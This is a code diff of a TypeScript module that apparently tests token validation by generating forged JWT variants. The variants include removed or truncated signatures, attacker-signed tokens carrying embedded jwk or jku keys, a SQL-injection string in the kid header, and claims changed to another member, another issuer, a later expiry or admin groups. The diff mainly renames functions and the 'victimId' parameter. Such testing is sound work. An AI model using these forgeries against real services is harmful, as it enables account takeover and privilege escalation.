@@ -10,13 +10,13 @@ const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('
 const decode = (part = ''): Claims => JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
 
 /** A token of the target, split into its parts. */
-interface Parts {
+interface TokenParts {
   readonly header: Claims;
   readonly claims: Claims;
   readonly signature: string;
 }
 
-function split(token: string): Parts {
+function parseToken(token: string): TokenParts {
   const [header, claims, signature = ''] = token.split('.');
   return { header: decode(header), claims: decode(claims), signature };
 }
@@ -34,12 +34,12 @@ function signHmac(header: Claims, claims: Claims, secret: string): string {
 }
 
 /** Returns a token with other claims and its original signature. */
-function alter(token: string, changes: Claims): string {
-  const { header, claims, signature } = split(token);
+function alterClaims(token: string, changes: Claims): string {
+  const { header, claims, signature } = parseToken(token);
   return `${encode(header)}.${encode({ ...claims, ...changes })}.${signature}`;
 }
 
-/** Returns the issuer of another user pool. */
+/** Returns the issuer of another user pool. The last nine characters of a pool's ID are random. */
 function otherIssuer({ iss }: Claims): string {
   return `${String(iss).slice(0, -9)}Pool00000`;
 }
@@ -51,10 +51,10 @@ function otherIssuer({ iss }: Claims): string {
  *
  * @param access - an access token of the target
  * @param id - an ID token of the same member
- * @param victimId - another member
+ * @param otherMemberId - the member that some of the tokens name instead
  */
-export function forgeTokens(access: string, id: string, victimId: string): Record<string, string> {
-  const { header, claims, signature } = split(access);
+export function forgeTokens(access: string, id: string, otherMemberId: string): Record<string, string> {
+  const { header, claims, signature } = parseToken(access);
   const now = Math.floor(Date.now() / 1000);
   const jwk = { ...rsa.publicKey.export({ format: 'jwk' }), kid: header.kid, use: 'sig', alg: 'RS256' };
   const content = access.slice(0, access.lastIndexOf('.'));
@@ -75,7 +75,7 @@ export function forgeTokens(access: string, id: string, victimId: string): Recor
     'no signature': `${content}.`,
     'half a signature': `${content}.${signature.slice(0, signature.length / 2)}`,
     'a signature with another character': `${content}.${replaceFirstCharacter(signature)}`,
-    'the signature of the ID token': `${content}.${split(id).signature}`,
+    'the signature of the ID token': `${content}.${parseToken(id).signature}`,
     'the key of the header (jwk)': signRsa({ ...header, jwk }, claims),
     'the address of a key in the header (jku)': signRsa({ ...header, jku: 'https://example.com/jwks.json' }, claims),
     'an unknown key ID': signRsa({ ...header, kid: 'unknown' }, claims),
@@ -84,15 +84,19 @@ export function forgeTokens(access: string, id: string, victimId: string): Recor
     'a key ID that is a query': signRsa({ ...header, kid: "' UNION SELECT 'x" }, claims),
     'another pool': signRsa(header, { ...claims, iss: otherIssuer(claims) }),
     'another issuer': signRsa(header, { ...claims, iss: 'https://example.com' }),
-    'another client': alter(access, { client_id: 'another-client' }),
-    'another member': alter(access, { sub: victimId, username: victimId }),
-    'another member, signed by the attacker': signRsa(header, { ...claims, sub: victimId, username: victimId }),
-    'a later expiry': alter(access, { exp: now + 1e6 }),
+    'another client': alterClaims(access, { client_id: 'another-client' }),
+    'another member': alterClaims(access, { sub: otherMemberId, username: otherMemberId }),
+    'another member, signed by the attacker': signRsa(header, {
+      ...claims,
+      sub: otherMemberId,
+      username: otherMemberId,
+    }),
+    'a later expiry': alterClaims(access, { exp: now + 1e6 }),
     'no expiry': signRsa(header, { ...claims, exp: undefined }),
     'a start in the future': signRsa(header, { ...claims, nbf: now + 1e6 }),
-    'an administrator': alter(access, { 'cognito:groups': ['admin'], scope: 'admin' }),
-    'the use of a refresh token': alter(access, { token_use: 'refresh' }),
-    'an ID token that claims to be an access token': alter(id, {
+    'an administrator': alterClaims(access, { 'cognito:groups': ['admin'], scope: 'admin' }),
+    'the use of a refresh token': alterClaims(access, { token_use: 'refresh' }),
+    'an ID token that claims to be an access token': alterClaims(id, {
       token_use: 'access',
       client_id: claims.client_id,
       scope: claims.scope,
